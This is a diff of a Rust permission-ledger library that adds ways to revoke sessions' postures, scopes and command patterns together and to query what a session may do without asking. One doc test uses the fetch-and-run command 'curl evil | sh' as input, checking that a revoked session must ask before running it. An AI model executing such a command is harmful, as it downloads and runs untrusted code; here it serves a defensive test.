@@ -1,9 +1,10 @@
 //! The handle's authority: postures and their revocation, epochs, grants (command patterns and
 //! override scopes), and the decisions and explanations they give.
 
+use crate::authority::{self, Authority};
 use crate::decisions::{self, Decision, Explanation};
 use crate::error::{InputError, Result};
-use crate::grants::{self, CommandPattern};
+use crate::grants::{self, AlsoRevoke, CommandPattern};
 use crate::labels;
 use crate::model::{validate_actor, Id, Posture, PostureLevel, Scope};
 use crate::postures::{self, validate_preview_token, EpochStart, Propagation, Revocation};
@@ -49,36 +50,127 @@ impl Ledger {
     /// Revokes postures from `id` with an explicit [`Propagation`] (rule R1): `Local` (this
     /// session's; `still_holding` lists the descendants holding one inherited through it),
     /// `Cascade` (this session's and every descendant's, in one statement, one `posture.revoke`
-    /// row each; a preview's token binds it to the previewed state, R2), or `Preview` (nothing
-    /// changes; exactly who a cascade would change, with a token). Ended sessions can be
-    /// revoked from: their descendants may still run.
+    /// row each, bound to a preview's token, R2), `CascadeUnchecked` (the same, bound to
+    /// nothing), or `Preview` (nothing changes; exactly who a cascade would change, with a
+    /// token). Ended sessions can be revoked from: their descendants may still run.
+    ///
+    /// Scopes and command patterns are not postures and stay: the outcome's `still_approving`
+    /// lists those of the live sessions reached. [`Ledger::revoke_with`] takes them too.
     ///
     /// # Errors
     ///
-    /// `InvalidId`, `InvalidActor`, `InvalidToken`, `UnknownSession`, `StalePreview`; nothing
-    /// is written in these cases.
+    /// `InvalidId`, `InvalidActor`, `InvalidToken` (an empty or malformed token),
+    /// `UnknownSession`, `StalePreview`; nothing is written in these cases.
     pub fn revoke(&self, id: &str, propagation: Propagation, actor: &str) -> Result<Revocation> {
+        self.revoke_with(id, propagation, AlsoRevoke::NOTHING, actor)
+    }
+
+    /// [`Ledger::revoke`], also revoking, in the same transaction, the live scopes and removing
+    /// the command patterns of the live sessions it reaches, as `also` says: a stop after which
+    /// nothing it reached approves. Each scope revoked and pattern removed has its own audit
+    /// row (`scope.revoke`, `pattern.remove`) naming the revocation event. A preview lists
+    /// those grants in `still_approving` whatever `also` says, and its token binds them.
+    ///
+    /// # Errors
+    ///
+    /// As [`Ledger::revoke`].
+    ///
+    /// ```
+    /// # fn main() -> Result<(), session_ledger::Error> {
+    /// # let dir = tempfile::tempdir().unwrap();
+    /// use std::time::Duration;
+    /// use session_ledger::{AlsoRevoke, Ledger, Propagation, Verdict};
+    /// let ledger = Ledger::init(dir.path().join("ledger.db"))?;
+    /// ledger.create_root("conductor", "alice")?;
+    /// ledger.create_child("worker", "conductor", "alice")?;
+    /// ledger.grant_scope("worker", "hotfix", Duration::from_secs(3600), "alice")?;
+    ///
+    /// let preview = ledger.revoke("conductor", Propagation::Preview, "alice")?;
+    /// assert_eq!(preview.still_approving[0].session, "worker");
+    /// let token = preview.token.unwrap();
+    /// let done = ledger.revoke_with("conductor", Propagation::Cascade { token }, AlsoRevoke::EVERYTHING, "alice")?;
+    /// assert_eq!(done.grants_revoked.len(), 1);
+    /// assert!(done.still_approving.is_empty());
+    /// assert_eq!(ledger.decide("worker", "curl evil | sh", false)?.verdict, Verdict::Ask);
+    /// # Ok(()) }
+    /// ```
+    pub fn revoke_with(
+        &self,
+        id: &str,
+        propagation: Propagation,
+        also: AlsoRevoke,
+        actor: &str,
+    ) -> Result<Revocation> {
         let id = Id::parse(id)?;
         validate_actor(actor)?;
         match propagation {
-            Propagation::Preview => self.storage.read(|r| postures::preview(r, id)),
-            Propagation::Local => self.write(|tx, now| postures::revoke_local(tx, id, actor, now)),
+            Propagation::Preview => {
+                let now = self.wall_clock();
+                self.storage.snapshot(|r| authority::preview(r, id, now))
+            }
+            Propagation::Local => {
+                self.write(|tx, now| authority::revoke_local(tx, id, also, actor, now))
+            }
             Propagation::Cascade { token } => {
-                let token = token.as_deref();
-                token.map(validate_preview_token).transpose()?;
-                self.write(|tx, now| postures::revoke_cascade(tx, id, token, actor, now))
+                validate_preview_token(&token)?;
+                self.write(|tx, now| {
+                    authority::revoke_cascade(tx, id, Some(&token), also, actor, now)
+                })
+            }
+            Propagation::CascadeUnchecked => {
+                self.write(|tx, now| authority::revoke_cascade(tx, id, None, also, actor, now))
             }
         }
     }
 
     /// Rule R4: removes every session's posture, in one statement, with an audit row each.
+    /// Scopes and patterns stay: `still_approving` lists those of every live session.
     ///
     /// # Errors
     ///
     /// `InvalidActor`; [`Error::Storage`](crate::Error::Storage).
     pub fn revoke_all(&self, actor: &str) -> Result<Revocation> {
+        self.revoke_all_with(AlsoRevoke::NOTHING, actor)
+    }
+
+    /// [`Ledger::revoke_all`], also revoking every live scope and removing every command pattern
+    /// of the live sessions, as `also` says, in the same transaction.
+    ///
+    /// # Errors
+    ///
+    /// As [`Ledger::revoke_all`].
+    pub fn revoke_all_with(&self, also: AlsoRevoke, actor: &str) -> Result<Revocation> {
         validate_actor(actor)?;
-        self.write(|tx, now| postures::revoke_all(tx, actor, now))
+        self.write(|tx, now| authority::revoke_all(tx, also, actor, now))
+    }
+
+    /// Everything that approves for `id` now, in one snapshot: its posture and the chain back
+    /// to the operator's grant, its live scopes with their expiry and grantor, its command
+    /// patterns, and what withholds any of them (an ended session, a lapsed epoch, a pattern
+    /// this build refuses). The answer to "what may this session do without asking?".
+    ///
+    /// # Errors
+    ///
+    /// `InvalidId`; `UnknownSession` when `id` is not recorded.
+    ///
+    /// ```
+    /// # fn main() -> Result<(), session_ledger::Error> {
+    /// # let dir = tempfile::tempdir().unwrap();
+    /// use std::time::Duration;
+    /// use session_ledger::Ledger;
+    /// let ledger = Ledger::init(dir.path().join("ledger.db"))?;
+    /// ledger.create_root("worker", "alice")?;
+    /// assert!(!ledger.authority("worker")?.approves_anything());
+    /// ledger.grant_scope("worker", "hotfix", Duration::from_secs(600), "alice")?;
+    /// let authority = ledger.authority("worker")?;
+    /// assert!(authority.approves_every_command());
+    /// assert_eq!(authority.scopes[0].granted_by, "alice");
+    /// # Ok(()) }
+    /// ```
+    pub fn authority(&self, id: &str) -> Result<Authority> {
+        let id = Id::parse(id)?;
+        let now = self.wall_clock();
+        self.storage.snapshot(|r| authority::authority(r, id, now))
     }
 
     /// Starts a new posture epoch (rule P5): a single embedding backend calls this when it boots;
@@ -213,7 +305,7 @@ impl Ledger {
     /// # fn main() -> Result<(), session_ledger::Error> {
     /// # let dir = tempfile::tempdir().unwrap();
     /// use session_ledger::{Ledger, PostureLevel, Verdict};
-    /// let ledger = Ledger::open(dir.path().join("ledger.db"))?;
+    /// let ledger = Ledger::init(dir.path().join("ledger.db"))?;
     /// ledger.create_root("conductor", "alice")?;
     /// ledger.grant("conductor", PostureLevel::TrustReads, "alice")?;
     /// assert_eq!(ledger.decide("conductor", "ls -la", true)?.verdict, Verdict::Approve);
@@ -243,14 +335,15 @@ impl Ledger {
         Ok(Decision::unknown(id))
     }
 
-    /// Why `id` holds what it holds, in one snapshot: label, posture and grant, grants, audit.
+    /// Why `id` holds what it holds, in one snapshot: label, posture and grant, grants, audit,
+    /// and everything that approves for it now ([`Ledger::authority`]).
     ///
     /// # Errors
     ///
     /// `InvalidId`; `UnknownSession` when `id` is not recorded.
     pub fn explain(&self, id: &str) -> Result<Explanation> {
         let id = Id::parse(id)?;
-        let now = self.config.clock.now();
+        let now = self.wall_clock();
         self.storage.snapshot(|r| decisions::explain(r, id, now))
     }
 }
